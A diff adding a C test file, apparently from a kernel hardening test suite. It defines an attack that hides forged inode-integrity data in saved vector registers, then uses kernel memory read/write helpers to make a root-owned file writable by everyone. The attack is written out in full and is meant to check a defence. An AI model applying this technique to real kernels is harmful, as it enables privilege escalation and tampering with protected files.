@@ -1,0 +1,81 @@
+// SPDX-License-Identifier: GPL-2.0-only
+#include "../saved_thread.h"
+
+ATTACK("cred_integrity", "record_in_registers", "cred_integrity: the seal of a file is not its own",
+       "The program loads its vector registers with a record that lets everybody write to root's "
+       "file, sleeps, so that the kernel keeps them in sealed memory, and leads the inode there.",
+       "What programs choose stands in sealed memory of another use, where no record is believed.",
+       "It opens root's file for writing.");
+
+#define VECTOR_BYTES 256 /* sixteen registers */
+#define FIRST_VECTOR 160 /* in the saved area */
+
+/* Shared with the child. */
+struct forgery {
+	volatile uint64_t seal;
+	uint64_t words[VECTOR_BYTES / 8];
+};
+
+static bool control(void)
+{
+	return is_ordinary();
+}
+
+/* Sleeps with WORDS in its vector registers. */
+static void sleep_with(const uint64_t *words)
+{
+	static const long pause_time[2] = { 2, 0 };
+	long result = __NR_nanosleep;
+
+	__asm__ volatile(".irp n, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15\n\t"
+			 "movups \\n * 16(%3), %%xmm\\n\n\t"
+			 ".endr\n\t"
+			 "syscall"
+			 : "+a"(result)
+			 : "D"(pause_time), "S"(0), "r"(words)
+			 : "rcx", "r11", "memory");
+}
+
+/* The inode's record as it is, but for its place and the mode. */
+static void forge(struct forgery *forgery, uint64_t inode)
+{
+	const uint64_t copy = saved_thread(peek(own_task() + member("task.arch.stack_top")));
+	const uint64_t place = copy + member("saved_thread.fpu") + FIRST_VECTOR;
+	const uint64_t seal = peek(inode + member("inode.seal"));
+	const uint64_t record = member("inode_seal.record");
+
+	for (unsigned long i = 0; i < VECTOR_BYTES / 8; i++)
+		forgery->words[i] = peek(seal + i * 8);
+	forgery->words[record / 8] = place + record;
+	*(uint32_t *)((char *)forgery->words + member("inode_seal.mode")) = 0100666;
+	forgery->seal = place;
+}
+
+static bool fire(void)
+{
+	const long file = call3(__NR_open, (long)PUBLIC, O_RDONLY, 0);
+	const uint64_t inode = peek(file_struct(own_task(), (int)file) + member("file.inode"));
+	const uint64_t before = peek(inode + member("inode.seal"));
+	struct forgery *const forgery = (struct forgery *)call6(
+		__NR_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	bool opened;
+
+	if (fork_program() == 0) {
+		forge(forgery, inode);
+		sleep_with(forgery->words);
+		leave(0);
+	}
+	while (forgery->seal == 0)
+		sleep_milliseconds(1);
+	sleep_milliseconds(100);
+	poke32(inode + member("inode.mode"), 0100666);
+	poke(inode + member("inode.seal"), forgery->seal);
+	opened = call3(__NR_open, (long)PUBLIC, O_RDWR, 0) >= 0;
+	poke(inode + member("inode.seal"), before);
+	return opened;
+}
+
+static void victim(void)
+{
+	victim_waits();
+}
